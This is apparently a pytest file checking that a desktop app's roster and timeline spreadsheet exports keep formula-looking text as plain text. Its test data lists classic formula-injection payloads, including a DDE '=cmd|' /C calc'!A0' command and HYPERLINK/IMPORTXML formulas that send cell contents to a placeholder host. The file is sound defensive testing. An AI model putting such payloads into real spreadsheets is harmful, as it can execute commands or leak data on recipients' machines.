"""Exported spreadsheets never turn the officer's (or an imported file's) text into formulas.

Text such as "=HYPERLINK(...)", "+1+1", "@SUM(A1)" or "=cmd|' /C calc'!A0"
typed as a name, a position or a note is exported as text: the .xlsx has no
formula cell holding it, and no CSV field starts with a formula character
unless it is a plain number.
"""

from __future__ import annotations

import csv
import re
import shutil
import sqlite3
import zipfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from thidua_desktop.cli import main as cli_main

COMMANDS = Path(__file__).resolve().parents[2] / "thidua_desktop" / "commands"
EVENT = "dh-hon-quan"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
CLASSIC = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "=HYPERLINK(\"http://x.invalid/?\"&A1,\"Bấm\")",
    "=cmd|' /C calc'!A0", "\t=1+1", "=IMPORTXML(CONCAT(\"http://x.invalid/\", A1), \"//a\")",
    "-2+3+cmd|' /C calc'!A0", "＝1+1",
]
needs_export_roster = pytest.mark.skipif(not (COMMANDS / "export_roster.py").is_file(),
                                         reason="export-roster not built yet")

hostile = st.one_of(
    st.sampled_from(CLASSIC),
    st.builds(lambda head, tail: head + tail, st.sampled_from(["=", "+", "-", "@"]),
              st.text(st.characters(exclude_categories=("Cs", "Cc")), max_size=40)),
)


def _plant(db: Path, texts: list[str]) -> None:
    """Put the texts in every free-text field of attending delegates of the district event."""
    conn = sqlite3.connect(db)
    targets = conn.execute(
        "SELECT d.id, d.person_id FROM delegates d JOIN events e ON e.id = d.event_id "
        "WHERE e.code = ? AND d.status <> 'absent' ORDER BY d.id LIMIT ?", [EVENT, len(texts)]
    ).fetchall()
    for (delegate_id, person_id), text in zip(targets, texts, strict=False):
        conn.execute("UPDATE persons SET full_name = ?, position = ?, workplace = ?, ethnicity = ? "
                     "WHERE id = ?", [text, text, text, text, person_id])
        conn.execute("UPDATE delegates SET achievement = ?, note = ? WHERE id = ?",
                     [text, text, delegate_id])
    conn.commit()
    conn.close()


def _formula_cells(path: Path) -> list[str]:
    """Every formula in the workbook's sheets, read from the XML itself."""
    found = []
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                found += re.findall(r"<f[ >].*?</f>", archive.read(name).decode("utf-8"), re.S)
    return found


def _cell_texts(path: Path) -> list[str]:
    from openpyxl import load_workbook

    wb = load_workbook(path)
    texts = []
    for ws in wb:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"formula in {ws.title}!{cell.coordinate}: {cell.value!r}"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts


def _csv_fields(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return [field for row in csv.reader(handle) for field in row]


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _export(db: Path, out: Path) -> None:
    assert cli_main(["export-roster", "--db", str(db), "--event", EVENT, "--out", str(out)]) == 0


@needs_export_roster
def test_classic_injections_are_text_in_xlsx_and_csv(tmp_path, demo_master):
    db = tmp_path / "demo.sqlite"
    shutil.copyfile(demo_master, db)
    _plant(db, CLASSIC)
    xlsx, csv_path = tmp_path / "ds.xlsx", tmp_path / "ds.csv"
    _export(db, xlsx)
    _export(db, csv_path)
    assert _formula_cells(xlsx) == []
    texts = _cell_texts(xlsx)
    for payload in ("=1+1", "@SUM(A1:A9)", "=cmd|' /C calc'!A0"):
        assert any(payload in t for t in texts), f"{payload!r} should be there, as text"
    fields = _csv_fields(csv_path)
    bad = [f for f in fields if f.startswith(FORMULA_START) and not _is_number(f)]
    assert bad == []
    assert "'=1+1" in fields and "'@SUM(A1:A9)" in fields


@needs_export_roster
@settings(max_examples=25, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(texts=st.lists(hostile, min_size=1, max_size=5))
def test_any_formula_looking_text_stays_text(tmp_path_factory, demo_master, texts):
    folder = tmp_path_factory.mktemp("inj")
    db = folder / "demo.sqlite"
    shutil.copyfile(demo_master, db)
    _plant(db, texts)
    xlsx, csv_path = folder / "ds.xlsx", folder / "ds.csv"
    _export(db, xlsx)
    _export(db, csv_path)
    assert _formula_cells(xlsx) == []
    _cell_texts(xlsx)
    bad = [f for f in _csv_fields(csv_path) if f.startswith(FORMULA_START) and not _is_number(f)]
    assert bad == []


@pytest.mark.skipif(not (COMMANDS / "timeline.py").is_file(), reason="timeline export not built yet")
def test_progress_workbook_keeps_milestone_titles_as_text(tmp_path, demo_master):
    db = tmp_path / "demo.sqlite"
    shutil.copyfile(demo_master, db)
    conn = sqlite3.connect(db)
    conn.execute("UPDATE milestones SET title = '=HYPERLINK(\"http://x.invalid\",\"Bấm\")' "
                 "WHERE id = (SELECT min(id) FROM milestones)")
    conn.execute("UPDATE units SET name = '+1+1 ' || name WHERE id = (SELECT max(id) FROM units)")
    conn.commit()
    conn.close()
    out = tmp_path / "tien-do.xlsx"
    assert cli_main(["timeline", "--db", str(db), "--out", str(out)]) in (0, 1)
    assert _formula_cells(out) == []
    assert any("HYPERLINK" in t for t in _cell_texts(out))
